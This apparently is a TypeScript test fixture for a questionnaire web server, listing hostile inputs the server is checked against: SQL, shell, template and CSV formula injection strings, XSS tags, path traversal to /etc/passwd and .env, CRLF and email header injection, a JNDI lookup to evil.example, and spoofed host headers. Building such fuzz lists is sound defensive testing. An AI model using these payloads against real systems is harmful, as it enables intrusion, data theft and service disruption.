import { MAX_ANSWER_LENGTH } from '../../questionnaire/answers.ts'

const words = (text: string) => text.trim().split(/\s+/)
const lines = (text: string) => text.trim().split('\n')

/** Valid answers to an open question that have broken other programs. Each must be returned unchanged. */
export const naughtyStrings: readonly string[] = [
  ...words(String.raw`
    undefined null NaN true 0 -1 1e400 0x10 1/0 " ' \ \0 %00 %s%n%p {0} $HOME |id {"$gt":""} $where __proto__
    constructor toString hasOwnProperty ../../../../etc/passwd ..\..\boot.ini /dev/null C:\con\con CON nul con.txt
    file:///etc/passwd *)(uid=*))(|(uid=* //*[1] "><b> <!-- ]]> &lt;b&gt; &#0; {{7*7}} {{{email}}} #{7*7} *{7*7}
    [[7*7]] . .. =?utf-8?B?SGk=?= --boundary-- =1+1 +1 -1+1 @SUM(A1) ＝1 "=1+1" ;=1 ,,, "","" a;b '=1
    Ω≈ç√∫˜µ≤≥÷ åß∂ƒ©˙∆˚¬…æ 田中さんにあげて下さい 사회과학원 مُنَاقَشَةُ ﷽ ﬀ İstanbul ı ß 👩🏽‍💻 👨‍👩‍👧‍👦 🏳️‍🌈 🇺🇸🇷🇺 ❤️ 0️⃣
  `),
  ...lines(`
; sleep 1
&& ls
'; DROP TABLE projects;--
' OR 1=1 --
1'; select pg_sleep(9)--
<script>alert(1)</script>
<img src=x onerror=alert(1)>
</textarea><h1>
<style>*{display:none}</style>
<base href=//evil.example>
<a href=javascript:alert(1)>x</a>
<form action=//evil.example>
<%= 7*7 %>
{% raw %}
Content-Type: text/html
=cmd|' /C calc'!A0
=HYPERLINK("http://evil.example")
  `),
  '`id`',
  ['$', '{7*7}'].join(''),
  'a\r\nBcc: victim@example.com',
  'a\nSubject: other',
  'x\r\n.\r\nMAIL FROM:<evil@example.com>',
  'x\n.\ny',
  'x\r.\ry',
  '\r\n\r\nbody',
  '\t=1',
  '\n{"level":60,"msg":"forged"}',
  '\u001b[31mred',
  '\u001b]0;title\u0007',
  '\u0008\u007f\u0085\u2028\u2029',
  '\ufeffa byte order mark',
  'a\u00adb\u200db\u200b',
  '\u202a\u202b\u202c\u202etest',
  'A\u030a \u212b \u00c5',
  '\u{10ffff}\ufdd0\uffff\ue000',
  `Z${'\u0334\u0321\u0322'.repeat(300)}`,
  'x'.repeat(MAX_ANSWER_LENGTH),
  '\u{1f4a9}'.repeat(MAX_ANSWER_LENGTH / 2),
  ' trailing \t ',
  'two\n\n\nlines',
]

/** Not email addresses according to the HTML standard. */
export const badEmails: readonly string[] = [
  ...words(`
    a@b,c@d a@b;c@d <a@b> g:a@b; a@b%0d%0aBcc: user@good.com(x)evil.com a@[127.0.0.1] a@ @b a a@b@c a@-b "a"@b
  `),
  'Name <a@b>',
  'a@b\r\nBcc: v@x',
  '"x@evil.com y"@good.com',
  'a@b\u2028',
  'a@b\u0085c',
  'a b@c',
  'a@b c',
  'a\x7f@b',
  'a@b (x)',
  'a@b\n',
  `${'a'.repeat(4000)}@`,
  `a@${'b.'.repeat(2000)}`,
  `${'g:'.repeat(2000)}a@b${';'.repeat(900)}`,
  `${'a'.repeat(100_000)}@`,
]

/** Years that are not offered, although some could be parsed as one. */
export const badYears: readonly unknown[] = [
  ...['1897', '2046', '1898.0', '0x7D0', '２０００', '1e3', ' 2000', '2000 ', '+2000', '02000'],
  2000,
  [2000],
  ['2000'],
]

/** Types that are not JSON. */
export const badContentTypes: readonly string[] = [
  '',
  'application/json, text/plain',
  ...words(`
    text/plain application/x-www-form-urlencoded multipart/form-data application/jsonx application/vnd.api+json
  `),
]

/** Addresses without a page or a file. `app.ts` is a file that the server under test serves. */
export const badPaths: readonly string[] = [
  ...words(String.raw`
    /../package.json /%2e%2e%2fpackage.json /..%5cpackage.json /%252e%252e/ /assets/..%2f..%2f.env //etc/passwd
    /.git/config /.env /assets/ /assets/nope.js /%00 /%c0%ae /% /api/ /api/projects /API/projects/x /sec99
    //evil.example /\evil.example /metrics/.. /desk/../.env /.. /app.ts. /APP.ts /app.ts/ //app.ts
     /%61pp.ts%00.js /sec1/ //sec1 /SEC1 /sec1;a=b /%5cevil.example
  `),
  `/${'a'.repeat(8000)}`,
  `/${'../'.repeat(2000)}etc/passwd`,
]

/** Bodies that are not a record. */
export const badBodies: readonly string[] = [
  '',
  '// c\n{}',
  '{"email":"\t"}',
  `{"email":${'9'.repeat(1000)}}`,
  ...words(`
    null [] 1 "x" true { {"email":"a@b" {'a':1} {}x {}{} [NaN] {"email":1e400} {"email":-0} {"email":1e-400}
    {"email":NaN} {"email":"a@b",}
  `),
]

/** Turns an option into a different text that looks much like it. */
export const disguises: readonly ((option: string) => string)[] = [
  (option) => option.toUpperCase(),
  (option) => option.toLowerCase(),
  (option) => `${option} `,
  (option) => ` ${option}`,
  (option) => `${option}\u200b`,
  (option) => option.replace('e', 'e\u0301'),
  (option) => option.replace('o', 'о'),
  (option) => option.replace(/[!-~]/, (letter) => String.fromCharCode(letter.charCodeAt(0) + 0xfee0)),
  (option) => option.replace(/[&<>'"]/, (letter) => `&#${letter.charCodeAt(0)};`),
  (option) => option.slice(0, -1),
]

const rangeOf = (step: number) =>
  `bytes=${Array.from({ length: 1000 }, (_, index) => `${step * index}-${step * index}`).join()}`

/** Odd headers for a GET request. */
export const oddReadHeaders: readonly Readonly<Record<string, string>>[] = [
  { range: rangeOf(1) },
  { range: rangeOf(2) },
  { range: `bytes=${'0-,'.repeat(999)}0-` },
  { range: 'bytes=9-1' },
  { range: 'bytes=-1,5-2,a-b' },
  { range: 'bytes=99999999999999999999-', 'if-range': '"' },
  { range: 'lines=1-2' },
  { 'if-none-match': ',,"W/*\u00ff', 'if-modified-since': 'never' },
  { 'if-none-match': '"a", '.repeat(1500) },
  { 'accept-encoding': 'br;q=nan, *;q=9, , gzip;;;q=1, \u00ff' },
  { 'accept-encoding': 'identity;q=0, *;q=0' },
  { 'accept-encoding': 'br,'.repeat(4000) },
  { accept: '\u00ff'.repeat(1000), 'accept-language': '*;q=1e400' },
  { host: 'evil.example"><script>', 'x-forwarded-host': 'evil.example' },
  { upgrade: 'h2c', connection: 'Upgrade, HTTP2-Settings', 'http2-settings': 'AAMA' },
  { cookie: 'a=b; '.repeat(2000) },
]

/** Odd headers for a valid submission, which must not have any effect. */
export const oddSubmitHeaders: readonly Readonly<Record<string, string>>[] = [
  { host: 'evil.example' },
  { host: 'evil.example:99999' },
  { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'https', forwarded: 'host=evil.example' },
  { 'x-http-method-override': 'DELETE', 'x-original-url': '/desk', 'x-rewrite-url': '/desk' },
  { 'user-agent': '{"level":60,"msg":"forged"}', 'x-request-id': '{"level":60}', referer: 'evil.example' },
  { 'user-agent': `\${jndi:ldap://evil.example}`, 'x-request-id': '"},{"forged":"yes' },
  { 'user-agent': 'forged '.repeat(1000), cookie: 'a=b; '.repeat(1000) },
  { 'user-agent': '', accept: '*/*;q=1e400', 'accept-language': '\u00ff'.repeat(100), range: 'bytes=9-1' },
]
